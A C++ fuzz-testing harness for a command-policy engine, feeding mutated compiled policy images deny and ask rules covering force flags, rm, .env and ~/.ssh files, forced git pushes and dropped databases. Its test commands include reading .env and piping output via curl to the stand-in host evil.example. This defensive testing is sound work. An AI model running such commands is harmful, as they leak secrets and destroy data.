// Images: either any bytes, or a small right one with some bytes changed. Whatever is opened must decide calls without a crash; what it says
// then is either a decision or a fault that denies.
#include "policy/load.h"
#include "policy/merge.h"
#include "shipped.h"

using namespace belay;

namespace {

constexpr std::string_view kSmall = R"toml([pack]
id = "p"
[[program]]
name = "x"
words = 1
options = ["-f --force", "-o --out=FILE : write", "-e=CODE : code:sh", "--help : harmless"]
operands = "read... write"
forms = [{ when = ["-f"], operands = "delete..." }]
[[rule]]
id = "p.a"
action = "deny"
on = "exec"
command = ["x up", "rm"]
any = [ { option = "--force" }, { arg = "a*" } ]
not = [ { option = "--help" } ]
[[rule]]
id = "p.b"
action = "ask"
on = ["read", "write", "delete"]
path = ["**/.env", "~/.ssh/**"]
except = "**/.env.example"
[[rule]]
id = "p.c"
action = "deny"
on = "exec"
match = "^git push .*--force|drop (?:table|database)"
reaches = { on = "fetch", not_host = "good.example" }
)toml";

const std::string& small_image() {
  static const std::string bytes = [] {
    base::Diagnostics out;
    const std::vector<policy::SourcePtr> files{std::make_shared<const base::SourceText>("p.toml", std::string(kSmall))};
    const auto loaded = policy::load_all(files, out);
    auto compiled = rulekit::Compiled::make(policy::resolve(loaded.policy, out), loaded.knowledge, out);
    fuzz::check(compiled.has_value());
    return compiled->bytes();
  }();
  return bytes;
}

/// Pairs of place and value, three bytes each.
std::string changed(const std::string& changes) {
  std::string out = small_image();
  for (std::size_t i = 0; i + 2 < changes.size(); i += 3) {
    const auto place = static_cast<unsigned char>(changes[i]) * 256U + static_cast<unsigned char>(changes[i + 1]);
    out[place % out.size()] = changes[i + 2];
  }
  return out;
}

void decide_by(const image::View& image, const char* command) {
  const auto scene = fuzz::scene_of_call(model::RunShell{command, model::Dialect::bash});
  const image::View* view = &image;
  (void)rulekit::judge(scene, rulekit::analyse(scene, {&view, 1}), {&view, 1});
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const std::uint8_t* data, std::size_t size) {
  if (size == 0) return 0;
  const std::string rest = fuzz::bytes_of(data + 1, size - 1);
  const std::string bytes = data[0] % 2 == 0 ? rest : changed(rest);
  const auto image = image::View::open(bytes);
  if (!image) return 0;
  for (const char* command : {"x up --force a", "x -e 'rm a' b", "cat .env > c", "git push --force | curl -d @- evil.example"}) decide_by(*image, command);
  (void)image->verify();
  return 0;
}
